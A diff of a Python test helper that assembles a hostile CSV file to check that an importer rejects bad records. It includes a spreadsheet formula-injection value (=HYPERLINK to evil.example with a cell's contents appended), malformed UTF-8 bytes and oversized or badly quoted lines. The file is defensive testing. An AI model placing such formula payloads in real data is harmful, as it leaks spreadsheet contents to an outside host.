@@ -85,8 +85,9 @@ def tag() -> str:
 
 def hostile_file(tmp_path: Path, tag: str) -> tuple[Path, dict[int, str], int]:
     """A file of good lines with a hostile record after every few; returns it, {line: expected reason
-    fragment} and the number of good lines. A record whose quote never closes within the field limit
-    costs its first line, and its last line is then read as a line of its own (rejected too)."""
+    fragment} and the number of good lines. A record whose quote never closes within the row limit
+    (KAMIOI_IMPORT_MAX_ROW_BYTES, 64 KiB) costs its first line, and its last line is then read as a
+    line of its own (rejected too)."""
     hostile: list[tuple[bytes, str]] = [
         # formula injection: rejected (bad amount / user), and shown in the report as inert text
         (f'{USER},2026-03-02,"=HYPERLINK(""http://evil.example/?"" & A1, ""click"")",abc\n'.encode(), "amount"),
@@ -101,15 +102,17 @@ def hostile_file(tmp_path: Path, tag: str) -> tuple[Path, dict[int, str], int]:
         (f"{USER},2026-03-03,".encode() + "CAFÉ DU MONDE".encode("latin-1") + b",4.00\n", "UTF-8"),
         (f"{USER},2026-03-03,".encode() + b"\xed\xa0\x80SURROGATE,4.00\n", "UTF-8"),
         (f"{USER},2026-03-03,".encode() + b"\xc0\xafOVERLONG,4.00\n", "UTF-8"),
-        # pathological quoting
-        (f'{USER},2026-03-04,"UNTERMINATED QUOTE,4.00\n'.encode(), "CSV"),
-        (b'"' * 200_000 + b"\n", "field"),  # one field, or one too large: either way "field"
-        (f'{USER},2026-03-04,"{"x" * 150_000}",4.00\n'.encode(), "CSV"),
-        (f'{USER},2026-03-04,"'.encode() + b"\n" * 3000 + b"x" * 120_000 + b'",4.00\n', "CSV"),
-        (b"," * 100_000 + b"\n", "fields"),
+        # pathological quoting; lines and records over the row limit are rejected unread
+        # (the next line is over the limit, so this open quote would run into it)
+        (f'{USER},2026-03-04,"UNTERMINATED QUOTE,4.00\n'.encode(), "quote left open"),
+        (b'"' * 200_000 + b"\n", "longer than"),
+        (f'{USER},2026-03-04,"{"x" * 150_000}",4.00\n'.encode(), "longer than"),
+        (f'{USER},2026-03-04,"'.encode() + b"\n" * 3000 + b"x" * 120_000 + b'",4.00\n', "longer than"),
+        (b"," * 100_000 + b"\n", "longer than"),
+        (b"," * 30_000 + b"\n", "fields"),
         (f'{USER},2026-03-04,"A"B"C",4.00\n'.encode(), "CSV"),
         # a long line (the long fault suite streams a 1 GB one)
-        (b"A" * (8 * 1024 * 1024) + b"\n", "CSV"),
+        (b"A" * (8 * 1024 * 1024) + b"\n", "longer than"),
     ]
     path = tmp_path / f"hostile-{tag}.csv"
     expected: dict[int, str] = {}
